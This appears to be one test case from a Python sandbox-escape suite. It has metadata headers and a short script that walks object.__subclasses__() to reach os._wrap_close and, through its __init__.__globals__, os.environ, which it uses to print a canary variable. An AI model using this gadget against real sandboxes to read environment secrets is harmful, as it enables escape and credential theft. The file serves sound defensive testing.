# id: subclasses-python-init-globals
# family: object-graph
# kind: escape
# invariant: D, E, G
# origin: pyjailbreaker's builtins_dict gadget, built on os._wrap_close
# technique: the __init__ of a class written in Python is a function, and its __globals__ is the namespace of its module: os
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random  # loads os, as many harmless modules do

for c in object.__subclasses__():
    if c.__name__ == "_wrap_close":
        print(c.__init__.__globals__["environ"]["PADCELL_CANARY"])
